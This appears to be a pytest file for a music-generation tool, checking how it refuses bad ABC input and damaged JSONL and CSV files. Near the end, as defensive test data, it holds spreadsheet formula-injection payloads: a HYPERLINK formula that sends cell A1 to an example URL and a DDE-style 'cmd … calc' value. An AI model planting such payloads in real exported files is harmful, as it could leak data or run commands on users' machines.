"""Bad input, second round: the music a user hands in (an opening, a chord chart, an ABC file to
score) and the files the workbook keeps (`candidates.jsonl`, the listening test's `answers.csv`,
prep's `index.csv`). Real music21 parsing, real OpenEWLD songs, the real command line.
"""

from __future__ import annotations

import json
import re
import zipfile
from pathlib import Path

import pytest
from bad_cases import Case, run_case

from aitunes_lib import abc, chords, files, metrics, prep, tasks
from aitunes_lib.dataset import DatasetError
from aitunes_lib.generate import load_candidates
from aitunes_lib.listening import ListeningError, ListeningTest, Round
from aitunes_lib.song import Song
from aitunes_lib.tasks import Request, TaskInputError

GARBAGE = "asdf;lkj }}}{{{"
OPENING = '"C"E2 G2 | "F"A2 c2 | "G7"B2 d2 | "C"c4 |'


def _writes(name: str, text: str):
    """A case's setup: one file in its folder."""
    return lambda folder: (folder / name).write_text(text, encoding="utf-8")


def _generate(task: str, name: str = "input.abc") -> tuple[str, ...]:
    # the model folder does not exist: a bad input must be refused before any model is looked at
    return ("generate", "--task", task, "--input", "{tmp}/" + name, "--model", "{tmp}/no_model", "--out", "{tmp}/out")


def _candidates_file(folder: Path) -> None:
    good = {"title": "Tea", "composer": "Me", "body": "C D E F | G4 |"}
    (folder / "candidates.jsonl").write_text(json.dumps(good) + "\n" + '{"title": "Tea", "compo\n', encoding="utf-8")


CASES: list[Case] = [
    Case("phrase of garbage", _generate("phrase"), "not ABC", _writes("input.abc", GARBAGE)),
    Case("chord chart of garbage", _generate("chords"), "not ABC", _writes("input.abc", GARBAGE)),
    Case("phrase of 10,000 bars", _generate("phrase"), "has 10,000 bars; give at most 128",
         _writes("input.abc", "C D E F | " * 10_000)),
    Case("phrase in an unknown key", _generate("phrase"), "K:xyz is not a key", _writes("input.abc", "X:1\nK:xyz\n" + OPENING)),
    Case("phrase of rests only", _generate("phrase"), "only rests", _writes("input.abc", "z4 | z4 | z4 |")),
    Case("phrase in 3/4 without a meter", _generate("phrase"), "lasts 3 quarters, as in 3/4",
         _writes("input.abc", "C D E | F G A | B c d |")),
    Case("phrase in M:3/4", _generate("phrase"), "is in 3/4", _writes("input.abc", "X:1\nM:3/4\nK:C\nC D E | F G A |")),
    Case("chart with an unknown chord", _generate("chords"), "unknown chord symbol 'Qq7' in bar 2",
         _writes("input.abc", '"C"x4 | "Qq7"x4 |')),
    Case("input file of 2 MB", _generate("phrase"), "more than the 1,000,000", _writes("input.abc", "C4 | " * 400_000)),
    Case("score a song in K:xyz", ("score", "{tmp}/song.abc", "--article", "--stats", "{tmp}/none.json"),
         "K:xyz is not a key", _writes("song.abc", "X:1\nT:t\nK:xyz\n" + OPENING), exit_code=0),
    Case("score a damaged candidates.jsonl", ("score", "{tmp}/candidates.jsonl", "--article", "--stats", "{tmp}/none.json"),
         "candidates.jsonl, line 2: not valid JSON", _candidates_file),
]


@pytest.mark.slow  # a fresh `python -m aitunes_lib` process a case (about 3 s each); CI runs them
@pytest.mark.parametrize("case", CASES, ids=[case.name for case in CASES])
def test_cli_cases(case, tmp_path):
    outcome = run_case(case, tmp_path)
    assert outcome.ok, outcome.output


def test_a_refused_input_leaves_no_output_folder(tmp_path):
    outcome = run_case(CASES[0], tmp_path)
    assert outcome.ok and not (tmp_path / "out").exists() and "no_model" not in outcome.output


# --------------------------------------------------------------------------- openings and charts


@pytest.mark.parametrize("text, says", [
    (GARBAGE, "not ABC: characters ABC does not use"),
    ("C D E F | " * 10_000, "has 10,000 bars"),
    ("C" * 30_000, "has 30,000 characters"),
    ("X:1\nK:xyz\n" + OPENING, "K:xyz is not a key"),
    ("X:1\nK:Cxyz\n" + OPENING, "K:Cxyz is not a key"),
    ("X:1\nL:1/3\nK:C\n" + OPENING, "unit note length L:1/3"),
    ("z4 | z4 |", "only rests"),
    ('"C"x4 | "G7"x4 |', "only rests"),  # a chord chart is no opening
    ("C D E | F G A | B c d |", "as in 3/4"),
    ("z | C D E | F G A |", "as in 3/4"),  # after a pickup
    ("C3/2 D3/2 E3/2 | F3/2 G3/2 A3/2 |", "as in 9/8"),
    ("c d e f | g a |", "ends inside bar 2"),  # a short last bar is not a meter
])
def test_a_bad_opening_is_refused_in_one_line(text, says):
    with pytest.raises(TaskInputError, match=re.escape(says)) as caught:
        tasks.phrase_input(text)
    assert "\n" not in str(caught.value)


def test_the_opening_is_checked_by_the_task_before_the_model_runs():
    # what `generate` calls first, whatever the front end
    with pytest.raises(TaskInputError, match="not ABC"):
        tasks.get("phrase").prompt(Request("t", "c", GARBAGE))
    with pytest.raises(TaskInputError, match="not ABC"):
        tasks.get("chords").prompt(Request("t", "c", GARBAGE))


def test_keys_are_read_as_written_not_as_c():
    minor = tasks.phrase_input("X:1\nK:Cm\nC E G c |")  # E is E flat in C minor: moved to A minor, it is C
    assert minor == tasks.Phrase(" A, C E A |", 1, "Cm")
    assert tasks.phrase_input("X:1\nK:E minor\nE G B e |").transposed_from == "Em"
    assert tasks.phrase_input("X:1\nK:G\nG B d g |").transposed_from == "G"  # one bar: music21 leaves it unmeasured
    assert tasks.phrase_input("X:1\nK:C major\n" + OPENING).transposed_from is None
    for value in ("Bb", "F#m", "D dorian", "G Mixolydian", "Hp", "none", "A minor =c", "G clef=bass", ""):
        assert abc.key_problem(value) is None, value
    for value in ("xyz", "Hz", "C loc", "Cxyz", "G trebel"):
        assert abc.key_problem(value) is not None, value


def test_an_opening_in_decorated_abc_is_written_as_the_models_write():
    phrase = tasks.phrase_input("C>D E2 | !trill!C4 |")  # broken rhythm and a decoration: through music21
    assert phrase.prefix == " C3/2 D/ E2 | C4 |"


@pytest.mark.parametrize("chart, says", [
    ('"C"x4 | "Qq7"x4 |', "unknown chord symbol 'Qq7' in bar 2"),
    (["C", "X" * 500], "unknown chord symbol 'XXXXXXXXXXXXXXXXXXXXXXXX' in bar 2"),
    (["C"] * 10_000, "more than 128 bars"),
    (iter(["C"] * 10**6), "more than 128 bars"),
    ('"C"x4 | ' * 10_000, "has 10,000 bars"),
    ("X:1\nK:xyz\n\"C\"x4 |", "K:xyz is not a key"),
    ('"C"x3 | "G"x3 | "C"x3 |', "as in 3/4"),
])
def test_a_bad_chord_chart_is_refused_in_one_line(chart, says):
    with pytest.raises(TaskInputError, match=re.escape(says)):
        tasks.chart_input(chart)


# --------------------------------------------------------------------------- the jazz minus


def test_the_jazz_minus_is_minor_not_flat():
    score = abc.parse_abc('"C-7"C4 | "C-"C4 | "C-maj7"C4 | "Bb-7"B4 |')
    symbols = list(score.recurse().getElementsByClass("Harmony"))
    assert [[p.name for p in s.pitches] for s in symbols] == [
        ["C", "E-", "G", "B-"], ["C", "E-", "G"], ["C", "E-", "G", "B"], ["B-", "D-", "F", "A-"]]
    assert [chords.name(s) for s in symbols] == ["Cm7", "Cm", "CmMaj7", "Bbm7"]
    assert abc.chord_pitch_classes("C-7") == abc.chord_pitch_classes("Cm7") == frozenset({0, 3, 7, 10})
    chart, _ = tasks.chart_input(["C-7", "F-7 Bb7", "Eb-maj7"])
    assert [name for _, _, name in chart.chords] == ["C-7", "F-7", "Bb7", "Eb-maj7"]
    assert metrics.evaluate('"C-7"C E G B | "C-7"c4 |')["unknown_chords"] == ""


# --------------------------------------------------------------------------- scoring


def test_scoring_a_song_in_an_unknown_key_is_invalid_with_the_reason():
    for candidate in ("X:1\nK:xyz\n" + OPENING, Song("t", "c", OPENING + "\n", key="xyz"), OPENING + "\n[K:Qq] C4 |"):
        row = metrics.evaluate(candidate)
        assert row["valid"] is False and "is not a key" in row["reason"], candidate
    assert metrics.evaluate("X:1\nK:Gdor\n" + OPENING)["valid"] is True


# --------------------------------------------------------------------------- candidates.jsonl

GOOD_ROW = {"title": "Tea", "composer": "Me", "body": "C D E F | G4 |\n", "candidate": 0, "scores": {"likelihood": -1.5}}


@pytest.mark.parametrize("line, says", [
    ('{"title": "Tea", "compo', "not valid JSON"),
    ("[1, 2]", "a JSON list where a candidate"),
    ("{}", "the candidate has no title, composer, body"),
    ("5", "a JSON number where a candidate"),
    ('"a song"', "a JSON string where a candidate"),
    ('{"title": "Tea", "composer": "Me"}', "the candidate has no body"),
    ('{"title": 5, "composer": "Me", "body": "C4 |"}', "title is a JSON number, not a string"),
    ('{"title": "Tea", "composer": "Me", "body": "C4 |", "candidate": "two"}', "candidate is a JSON string, not a number"),
    ('{"title": "Tea", "composer": "Me", "body": "C4 |", "candidate": true}', "candidate is a JSON true/false"),
    ('{"title": "Tea", "composer": "Me", "body": "C4 |", "violations": "none"}', "violations is a JSON string, not a list"),
    ('{"title": "Tea", "composer": "Me", "body": "C4 |", "violations": [1]}', "violations must be a list of strings"),
    ('{"title": "Tea", "composer": "Me", "body": "C4 |", "scores": [1]}', "scores is a JSON list, not a object"),
    ('{"title": "Tea", "composer": "Me", "body": "C4 |", "scores": {"likelihood": "high"}}', "scores.likelihood is a JSON string"),
    ('{"title": "Tea", "composer": "Me", "body": "C4 |", "context": {"a": {"b": 1}}}', "context must map names to plain values"),
])
def test_a_damaged_candidates_row_refuses_the_file_naming_the_line(tmp_path, line, says):
    path = tmp_path / "candidates.jsonl"
    path.write_text(json.dumps(GOOD_ROW) + "\n\n" + line + "\n", encoding="utf-8")
    with pytest.raises(DatasetError) as caught:
        load_candidates(tmp_path)
    assert str(caught.value).startswith(f"{path}, line 3: ") and says in str(caught.value), str(caught.value)


def test_a_candidates_file_that_is_not_text_says_so(tmp_path):
    path = tmp_path / "candidates.jsonl"
    path.write_bytes(json.dumps(GOOD_ROW).encode() + b"\n\xff\xfe\x00\x01\n")
    with pytest.raises(DatasetError, match="line 2: not UTF-8"):
        load_candidates(path)


def test_a_candidate_with_bad_music_loads_and_scores_invalid_with_the_reason(tmp_path):
    rows = [GOOD_ROW, {**GOOD_ROW, "candidate": 1, "key": "xyz"}, {**GOOD_ROW, "candidate": 2, "body": GARBAGE}]
    (tmp_path / "candidates.jsonl").write_text("".join(json.dumps(r) + "\n" for r in rows), encoding="utf-8")
    songs = load_candidates(tmp_path)
    assert [s.candidate for s in songs] == [0, 1, 2] and songs[0].scores["likelihood"] == -1.5
    table = metrics.rank(songs).set_index("candidate")
    assert table.loc[0, "valid"] and not table.loc[1, "valid"] and not table.loc[2, "valid"]
    assert "K:xyz is not a key" in table.loc[1, "reason"] and "not ABC" in table.loc[2, "reason"]


# --------------------------------------------------------------------------- the listening test's answers.csv

HEADER = "time,listener,round,real_side,guess,correct,real_title,generated"
RIGHT = "2026-12-07T10:00:00,ada,1,A,A,1,Tea for Two,candidate 0"


@pytest.fixture(scope="module")
def songs(song_path) -> list[Song]:
    record = prep.process_file(song_path("Jingle_Bells"))
    return [Song(record["title"], record["composer"], record["body"], record["meter"], record["abc_key"])]


def _test(songs, folder: Path, answers: str | None = None) -> ListeningTest:
    if answers is not None:
        (folder / "answers.csv").write_text(answers, encoding="utf-8")
    return ListeningTest(songs, songs, folder / "answers.csv", folder, bars=4)


@pytest.mark.parametrize("row, says", [
    ("2026-12-07T10:01:00,bo,2,A,B,yes,Tea,candidate 1", "line 3: correct is 'yes', not 1 (right) or 0 (wrong)"),
    ("2026-12-07T10:01:00,bo,2,A,B,7,Tea,candidate 1", "line 3: correct is '7'"),
    ("2026-12-07T10:01:00,bo,2,A,A", "line 3: 5 cells where the header names 8 columns"),
    ("2026-12-07T10:01:00,bo,2,A,B,1,Tea,candidate 1", "line 3: correct is 1, but the guess B and the real side A"),
    ("2026-12-07T10:01:00,bo,two,A,B,0,Tea,candidate 1", "line 3: round is 'two'"),
    ("2026-12-07T10:01:00,bo,2,A,C,0,Tea,candidate 1", "line 3: guess is 'C', not A or B"),
])
def test_a_bad_answers_row_is_named_by_its_line(songs, tmp_path, row, says):
    test = _test(songs, tmp_path, f"{HEADER}\n{RIGHT}\n{row}\n")
    for read in (test.table, test.summary, test.verdict):
        with pytest.raises(ListeningError) as caught:
            read()
        assert says in str(caught.value) and str(tmp_path / "answers.csv") in str(caught.value)


def test_answers_are_counted_once_each_and_a_class_s_columns_are_kept(songs, tmp_path):
    test = _test(songs, tmp_path, f"{HEADER},class\n{RIGHT},4b\n")
    assert test.verdict().startswith("1 of 1 right (100%)")
    test.current = Round(2, tmp_path / "a.wav", tmp_path / "b.wav", "B", "Dinah", "candidate 3")
    assert test.answer("A", listener="bo") is False
    table = test.table()
    assert list(table.columns) == [*HEADER.split(","), "class"] and list(table["class"]) == ["4b", ""]
    assert list(table["correct"]) == [1, 0] and test.verdict().startswith("1 of 2 right (50%)")


def test_names_that_look_like_formulas_are_written_as_text(songs, tmp_path):
    test = _test(songs, tmp_path)
    formula = '=HYPERLINK("http://example.com/?"&A1,"click")'
    test.current = Round(1, tmp_path / "a.wav", tmp_path / "b.wav", "A", "+1 Tea", "@candidate")
    test.answer("A", listener=formula)
    written = (tmp_path / "answers.csv").read_text(encoding="utf-8")
    cells = [line.split(",")[1] for line in written.splitlines()[1:]]
    assert cells[0].startswith("\"'=HYPERLINK") and "'+1 Tea" in written and "'@candidate" in written
    row = test.table().iloc[0]
    assert (row["listener"], row["real_title"], row["generated"]) == (formula, "+1 Tea", "@candidate")  # read back as given


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "'"])
def test_every_formula_start_is_made_text_and_read_back(start):
    cell = start + "cmd|' /C calc'!A0"
    assert files.csv_cell(cell) == "'" + cell and files.csv_text(files.csv_cell(cell)) == cell
    assert files.csv_cell(-3) == -3 and files.csv_cell("Tea - for two") == "Tea - for two"


def test_prep_writes_a_formula_title_into_index_csv_as_text(song_path, tmp_path):
    source = song_path("Jingle_Bells")
    folder = tmp_path / "OpenEWLD" / "dataset" / "Someone" / "Evil"
    folder.mkdir(parents=True)
    with zipfile.ZipFile(source) as original, zipfile.ZipFile(folder / "Evil.mxl", "w") as copy:
        for item in original.infolist():
            data = original.read(item)
            if item.filename.endswith(".xml") and not item.filename.startswith("META-INF"):
                data = re.sub(rb"<(work-title|movement-title)>[^<]*<", rb'<\1>=HYPERLINK("http://x","y")<', data)
                data = re.sub(rb'<creator type="composer">[^<]*<', rb'<creator type="composer">@SUM(1+1)<', data)
            copy.writestr(item, data)
    result = prep.prepare_to(tmp_path / "out", tmp_path / "OpenEWLD", prep.PrepConfig(workers=1, cache=False), progress=False)
    assert result.songs[0].title == '=HYPERLINK("http://x","y")'
    written = (tmp_path / "out" / "index.csv").read_text(encoding="utf-8")
    assert "\"'=HYPERLINK(\"\"http://x\"\",\"\"y\"\")\"" in written and ",'@SUM(1+1)," in written
    assert not re.search(r'(^|,)"?[=+@]', written, re.M)


# --------------------------------------------------------------------------- titles


@pytest.mark.parametrize("title, becomes", [
    ("", "Untitled"),
    ("   \x1b\x07 ", "Untitled"),
    ("Tea " * 2_500, ("Tea " * 30).strip()),
])
def test_an_empty_or_endless_title_is_made_usable(title, becomes):
    request = Request(title, "Me", OPENING)
    assert request.title == becomes and len(request.title) <= abc.MAX_NAME_CHARS
    prompt = tasks.get("phrase").prompt(request)
    assert abc.split_prompt(prompt.text)[0] == becomes
